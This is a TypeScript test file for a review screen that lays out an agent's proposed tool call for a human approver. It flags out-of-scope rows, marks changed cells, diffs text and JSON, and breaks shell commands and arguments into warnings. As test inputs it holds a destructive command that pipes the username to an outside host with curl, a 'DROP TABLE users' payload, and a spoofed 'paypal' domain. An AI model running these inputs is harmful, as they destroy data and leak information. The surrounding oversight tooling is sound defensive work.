import fc from "fast-check";
import { describe, expect, test } from "vitest";

import { Effect } from "@/lib/core/decisions/schema";
import { asJsonObject } from "@/lib/core/shared/as-json";
import type { JsonObject } from "@/lib/core/shared/json";

import { effectView } from "./effect";
import { headlineOf } from "./headline";
import type { Part } from "./part";
import { rowChanges } from "./row-diff";

function view(effect: unknown, args: JsonObject = {}, scope: JsonObject | null = null) {
  const parsed = effect === null ? null : Effect.parse(effect);
  const call = {
    tool: "delete_record",
    environment: "production",
    reversibility: "irreversible",
    args,
    effect: parsed,
  };
  const context = scope === null ? [] : [{ source: "crm", as_of: "", ttl_seconds: null, scope, doc_ids: [] }];
  return effectView({ args, effect: parsed && asJsonObject(parsed), headline: headlineOf(call), context });
}

const rowsOf = (part: Part | undefined) => (part?.body.kind === "rows" ? part.body.rows : []);
const linesOf = (part: Part | undefined) => (part?.body.kind === "lines" ? part.body.lines : []);

describe("rows", () => {
  const before = Array.from({ length: 214 }, (_, id) => ({
    id,
    status: id < 31 ? "error" : "expired",
    value: id === 100 ? 48_210 : 5,
  }));
  const intended = { description: 'status = "error"', keys: before.slice(0, 31).map(({ id }) => id), count: 31 };

  test("shows what was not asked for first", () => {
    const { parts, mismatch } = view({ kind: "rows", before, intended });
    expect(parts.map((part) => part.title)).toEqual([
      "Not in the stated request (183)",
      "In the stated request (31)",
      "Arguments, as bound (0)",
    ]);
    expect(mismatch).toEqual({ outside: 183, missing: 0, touched: 214, asked: 31, description: 'status = "error"' });
    expect(rowsOf(parts[0])[0]?.flags).toContain("largest value");
    expect(parts[0]?.summary).toBe("183 rows: 183 removed, 183 flagged");
  });

  test("puts protected records and other customers' before the largest values, and those before the rest", () => {
    const list = Array.from({ length: 40 }, (_, id) => ({
      id,
      customer_id: id === 33 ? "C-9" : "C-1",
      legal_hold: id === 20 ? "case 77" : id === 21 ? "no" : false,
      amount: id === 7 ? 9_000 : 5,
    }));
    const { parts } = view({ kind: "rows", before: list }, {}, { customer_id: "C-1" });
    expect(parts.map((part) => part.title)).toEqual(["Stand out (3)", "Rows (37)", "Arguments, as bound (0)"]);
    expect(rowsOf(parts[0]).map((row) => row.flags)).toEqual([
      ["marked legal_hold"],
      ["another customer_id: C-9"],
      ["largest amount"],
    ]);
    expect(parts[0]?.summary).toBe("3 rows: 3 removed, 3 flagged");
  });

  test("marks a record that becomes protected, or that is moved to another customer", () => {
    const [row] = rowsOf(
      view(
        { kind: "rows", before: [{ id: 1, customer_id: "C-1" }], after: [{ id: 1, customer_id: "C-2", locked: true }] },
        {},
        { customer_id: "C-1" },
      ).parts[0],
    );
    expect(row?.flags).toEqual(["marked locked", "another customer_id: C-2"]);
  });

  test("notices a count that differs where the request names no rows", () => {
    expect(view({ kind: "rows", before, intended: { count: 31 } }).mismatch).toMatchObject({
      outside: null,
      touched: 214,
      asked: 31,
    });
    expect(view({ kind: "rows", before, intended: { count: 214 } }).mismatch).toBeNull();
  });

  test("says how many touched rows the agent does not list", () => {
    const { parts } = view({ kind: "rows", before: before.slice(0, 10), total: 214 });
    expect(parts[0]?.uninspectable).toBe("204 more rows touched that the agent does not list");
  });

  test("says which ids are bound but not in the dry run", () => {
    expect(view({ kind: "rows", before: [{ id: 1 }] }, { ids: [1, 2, 3] }).idsNotListed).toBe(2);
  });

  test("marks the cells that change, and only them", () => {
    const { parts } = view({
      kind: "rows",
      before: [{ id: 1, status: "open", n: 1 }],
      after: [{ id: 1, status: "closed", n: 1 }],
    });
    expect(rowsOf(parts[0])[0]?.cells.map((cell) => [cell.column, cell.changed])).toEqual([
      ["id", false],
      ["status", true],
      ["n", false],
    ]);
    expect(parts[0]?.changes).toBe(1);
  });

  test("tells the number 1 from the text 1", () => {
    const { parts } = view({ kind: "rows", before: [{ id: 1 }], after: [{ id: "1" }] });
    expect(
      rowsOf(parts[0])
        .map((row) => row.status)
        .toSorted(),
    ).toEqual(["added", "removed"]);
  });

  test("announces what it cuts, and asks for it to be read elsewhere", () => {
    const many = Array.from({ length: 1_200 }, (_, id) => ({ id, text: "x".repeat(500) }));
    const part = view({ kind: "rows", after: many }).parts[0];
    expect(rowsOf(part)).toHaveLength(1_200);
    expect(part?.title).toBe("Rows (1,200)");
    expect(part?.uninspectable).toBe("long values are cut");
    const wide = Object.fromEntries(Array.from({ length: 40 }, (_, column) => [`c${column}`, 1]));
    expect(view({ kind: "rows", after: [{ id: 1, ...wide }] }).parts[0]?.uninspectable).toBe("30 of 41 columns shown");
  });

  test("no row of either list is lost, whatever the keys", () => {
    const row = fc.record(
      { id: fc.option(fc.integer({ min: 0, max: 3 })), v: fc.integer({ min: 0, max: 2 }) },
      { requiredKeys: [] },
    );
    fc.assert(
      fc.property(fc.array(row, { maxLength: 12 }), fc.array(row, { maxLength: 12 }), (left, right) => {
        const changes = rowChanges({ kind: "rows", key: "id", before: left, after: right });
        expect(changes.filter((change) => change.before !== null)).toHaveLength(left.length);
        expect(changes.filter((change) => change.after !== null)).toHaveLength(right.length);
      }),
    );
  });
});

describe("text", () => {
  test("speaks the changes before showing them", () => {
    const { parts } = view({ kind: "text", before: "a\nb\nc", after: "a\nx\nc\nd" });
    expect(parts[0]?.summary).toBe("3 changed lines: 2 added, 1 removed");
  });

  test("marks the words that differ within a line", () => {
    const lines = linesOf(
      view({ kind: "text", before: "pay 10 dollars to Ann", after: "pay 10000 dollars to Ann" }).parts[0],
    );
    const changed = lines.flatMap((line) =>
      line.kind === "gap" ? [] : line.segments.filter((segment) => segment.changed),
    );
    expect(changed.map((segment) => segment.text)).toEqual(["10", "10000"]);
  });

  test("folds what does not change and says how much", () => {
    const text = Array.from({ length: 100 }, (_, line) => `line ${line}`);
    const lines = linesOf(
      view({ kind: "text", before: text.join("\n"), after: text.with(50, "new").join("\n") }).parts[0],
    );
    expect(lines.filter((line) => line.kind === "gap")).toEqual([
      { kind: "gap", lines: 47 },
      { kind: "gap", lines: 46 },
    ]);
  });

  test("says so when only line endings differ", () => {
    expect(view({ kind: "text", before: "a\r\nb", after: "a\nb" }).parts[0]?.summary).toBe("Only line endings differ");
  });

  test("the lines shown give back both texts", () => {
    const text = fc
      .array(fc.constantFrom("a", "b", "c d", "c e", ""), { maxLength: 30 })
      .map((lines) => lines.join("\n"));
    fc.assert(
      fc.property(text, text, (before, after) => {
        const lines = linesOf(view({ kind: "text", before, after }).parts[0]);
        const side = (skip: string) =>
          lines.flatMap((line) =>
            line.kind === "gap" || line.kind === skip ? [] : [line.segments.map((s) => s.text).join("")],
          );
        if (lines.some((line) => line.kind === "gap")) return;
        expect(`${side("added").join("\n")}\n`).toBe(
          `${before.replace(/\n$/, "")}\n`.replace(/^\n$/, before === "" ? "\n" : "\n"),
        );
        expect(side("removed").join("\n")).toBe(after.replace(/\n$/, ""));
      }),
    );
  });

  test("two long texts with nothing in common end in good time", () => {
    const noise = (seed: number) =>
      Array.from({ length: 20_000 }, (_, line) => `${(line * 7919 + seed) % 104_729}`).join("\n");
    const started = performance.now();
    const part = view({ kind: "text", before: noise(1), after: noise(50_000) }).parts[0];
    expect(performance.now() - started).toBeLessThan(5_000);
    expect(linesOf(part)).toHaveLength(40_000);
    expect(part?.uninspectable).toBeNull();
    expect(view({ kind: "text", after: "a\n".repeat(60_000) }).parts[0]?.uninspectable).toBe(
      "50,000 of 60,000 lines shown",
    );
  });
});

describe("json", () => {
  test("names each path that differs, matching items by id", () => {
    const before = {
      items: [
        { id: 7, qty: 1 },
        { id: 8, qty: 2 },
      ],
      note: "x",
    };
    const after = {
      items: [
        { id: 8, qty: 2 },
        { id: 7, qty: 100 },
      ],
      note: "x",
      extra: { a: [] },
    };
    const body = view({ kind: "json", before, after }).parts[0]?.body;
    expect(body?.kind === "paths" && body.items.map((item) => [item.status, item.path])).toEqual([
      ["added", "/extra/a"],
      ["changed", "/items/[id=7]/qty"],
    ]);
  });
});

describe("command", () => {
  test("shows it whole and names what it is made of", () => {
    const command = "sudo rm -rf /var/data/* | tee log > /tmp/out && curl https://example.com/$(whoami)";
    const part = view({ kind: "command", command }).parts[0];
    expect(part?.body.kind === "command" && part.body.segments.map((segment) => segment.text).join("")).toBe(command);
    expect(part?.body.kind === "command" && part.body.facts).toEqual([
      "runs as another user",
      "deletes or overwrites",
      "forces or recurses",
      "wildcard",
      "pipe",
      "reads or writes a file",
      "starts another command",
      "uses the network",
      "command inside a command",
    ]);
  });

  test("loses no character of any command", () => {
    fc.assert(
      fc.property(fc.string({ unit: "binary", minLength: 1, maxLength: 60 }), (command) => {
        const body = view({ kind: "command", command }).parts[0]?.body;
        expect(body?.kind === "command" && body.segments.map((segment) => segment.text).join("")).toBe(command);
      }),
    );
  });
});

describe("arguments", () => {
  test("are always there, every one of them, with their type", () => {
    const body = view(null, { to: "a@example.com", n: 5, s: "5", deep: { list: [], on: true } }).parts[0]?.body;
    expect(body?.kind === "arguments" && body.items.map((item) => [item.path, item.type, item.value.head])).toEqual([
      ["/to", "text", "a@example.com"],
      ["/n", "number", "5"],
      ["/s", "text", "5"],
      ["/deep/list", "list", "[]"],
      ["/deep/on", "boolean", "true"],
    ]);
  });

  test("that are too long keep their end and ask to be downloaded", () => {
    const part = view(null, { sql: `${"x".repeat(300_000)} DROP TABLE users` }).parts[0];
    expect(part?.uninspectable).toBe("long values are cut");
    expect(part?.body.kind === "arguments" && part.body.items[0]?.value.tail).toContain("DROP TABLE users");
  });

  test("with hidden characters or strange hosts are counted", () => {
    const warned = view(null, { to: "al‮ecila‬", "k​ey": "https://раypal.com/x" });
    expect(warned.hiddenCharacters).toBe(3);
    expect(warned.hosts.map((host) => host.ascii)).toEqual(["xn--ypal-43d9g.com"]);
  });
});

test("what a critical action's reviewer types is printed in the parts", () => {
  const { affected, parts } = view({ kind: "rows", before: [{ id: 1 }, { id: 2 }] });
  expect(affected).toEqual({ count: 2, unit: "rows" });
  expect(parts[0]?.summary).toContain("2 rows");
});
